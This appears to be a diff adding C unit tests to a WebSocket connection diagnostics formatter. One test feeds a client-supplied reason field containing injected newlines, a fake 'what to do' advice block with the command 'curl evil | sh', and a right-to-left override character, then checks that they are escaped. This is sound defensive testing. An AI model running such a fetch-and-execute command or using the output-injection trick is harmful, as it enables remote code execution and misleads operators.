@@ -78,6 +78,43 @@ TEST(what_was_seen_is_said_once_and_what_was_not_is_not)
     assert_null(strstr(text, "did not answer pings"));
 }
 
+/* What a client says in its reason must not look like advice of ours. */
+TEST(a_reason_or_path_with_lines_of_its_own_stays_in_its_line)
+{
+    static const char hostile[] =
+        "{\"conn\":\"ab\",\"script\":\"chat.lua\",\"path\":\"/a\\n  what to do\\n    - b\","
+        "\"code\":4000,\"cause\":\"peer_close\",\"who\":\"client\","
+        "\"reason\":\"bye\\n  what to do\\n    - curl evil | sh\\u202etxt\\tx\",\"flight\":[]}";
+    const char *text = verdict_of(hostile, false);
+    ASSERT_SAYS(text, "reason      bye\\x0a  what to do\\x0a    - curl evil | sh\\xe2\\x80\\xaetxt",
+                "ab on /a\\x0a  what to do\\x0a    - b, chat.lua");
+    const char *advice = strstr(text, "\n  what to do\n");
+    assert_non_null(advice);
+    assert_null(strstr(advice + 1, "\n  what to do\n"));
+    assert_null(strstr(advice, "evil"));
+    text = verdict_of(hostile, true);
+    assert_ptr_equal(strchr(text, '\n'), text + strlen(text) - 1);
+}
+
+TEST(a_long_rule_or_error_is_wrapped_below_itself)
+{
+    ASSERT_SAYS(verdict_of("{" WHERE "\"code\":1002,\"cause\":\"protocol_error\",\"rule\":"
+                           "\"RFC 6455 5.2: reserved bits are zero without an extension that uses "
+                           "them\",\"flight\":[]}",
+                           false),
+                "  rule        RFC 6455 5.2: reserved bits are zero without an extension that\n"
+                "              uses them\n");
+}
+
+TEST(the_error_that_ended_it_did_not_come_before_it)
+{
+    const char *text = verdict_of("{" WHERE "\"code\":1011,\"cause\":\"script_error\",\"fault\":"
+                                  "\"on_open, chat.lua:2: no table\",\"flight\":[]}",
+                                  false);
+    ASSERT_SAYS(text, "error       on_open, chat.lua:2: no table");
+    assert_null(strstr(text, "Before that"));
+}
+
 TEST(a_breach_names_rule_and_bytes_once)
 {
     const char *text = verdict_of(
@@ -163,6 +200,9 @@ int main(void)
     const struct CMUnitTest cases[] = {
         CASE(an_idle_limit_is_named_by_the_silence),
         CASE(what_was_seen_is_said_once_and_what_was_not_is_not),
+        CASE(a_reason_or_path_with_lines_of_its_own_stays_in_its_line),
+        CASE(a_long_rule_or_error_is_wrapped_below_itself),
+        CASE(the_error_that_ended_it_did_not_come_before_it),
         CASE(a_breach_names_rule_and_bytes_once),
         CASE(one_that_lives_is_told_of_without_an_end),
         CASE(each_cause_has_words_in_rows_that_fit),
